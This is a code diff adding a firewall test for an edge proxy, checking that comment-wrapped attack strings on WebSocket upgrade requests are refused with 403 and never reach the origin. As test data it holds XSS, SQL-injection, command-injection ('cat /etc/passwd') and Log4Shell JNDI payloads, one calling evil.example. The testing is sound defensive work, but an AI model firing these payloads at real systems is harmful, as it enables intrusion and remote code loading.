@@ -7,6 +7,9 @@ import dev.pier.edge.support.EdgeWithJettyOrigin;
 import dev.pier.edge.support.RawHttp;
 import dev.pier.edge.support.TestEdge;
 import dev.pier.edge.support.WsClient;
+import java.net.URLEncoder;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
 import org.junit.jupiter.api.Test;
 
 /** The managed ruleset on the upgrade request, end to end: attacks are refused, the tunnel is never inspected. */
@@ -46,6 +49,35 @@ class ManagedRulesTest extends EdgeWithJettyOrigin {
                     "User-Agent: sqlmap/1.8.2#stable (https://sqlmap.org)"))).startsWith("HTTP/1.1 403");
             assertThat(RawHttp.exchange(edge.port(), RawHttp.upgrade("/echo", "localhost",
                     "Cookie: session=${jndi:ldap://evil.example/a}"))).startsWith("HTTP/1.1 403");
+        }
+    }
+
+    /**
+     * Attacks wrapped in a comment, which the managed rules once read only without their
+     * comments (so they saw nothing, and the upgrade got its 101); the Core Ruleset at paranoia
+     * level 1 blocks every one. Each is refused and reaches the origin neither as an upgrade
+     * nor as any other request.
+     */
+    @Test
+    void anAttackWrappedInACommentIsRefusedAndNeverReachesTheOrigin() throws Exception {
+        List<String> wrapped = List.of("/* <script>alert(document.cookie)</script> */", "/* ' or 1=1-- */",
+                "/* ; cat /etc/passwd */", "/* ${jndi:ldap://x/a} */", "x/* <img src=x onerror=alert(1)> */");
+        try (TestEdge edge = withManagedRules("")) {
+            for (String value : wrapped) {
+                int upgrades = origin.upgrades.get();
+                int requests = origin.httpRequests.get();
+                String response = RawHttp.exchange(edge.port(),
+                        RawHttp.upgrade("/echo?q=" + URLEncoder.encode(value, StandardCharsets.UTF_8), "localhost"));
+                assertThat(response).as(value).startsWith("HTTP/1.1 403").contains("6179ae15870a4bb7b2d480d4843b323c");
+                RequestLog log = edge.nextLog();
+                assertThat(log.securityAction).as(value).isEqualTo("block");
+                assertThat(log.securitySources).as(value).containsExactly("firewallManaged");
+                assertThat(origin.upgrades.get()).as(value).isEqualTo(upgrades);
+                assertThat(origin.httpRequests.get()).as(value).isEqualTo(requests);
+            }
+            // the same request without the attack still goes through
+            assertThat(RawHttp.head(edge.port(), "127.0.0.1", RawHttp.upgrade("/echo?q=" + URLEncoder.encode("/* lobby */",
+                    StandardCharsets.UTF_8), "localhost"))).startsWith("HTTP/1.1 101");
         }
     }
 
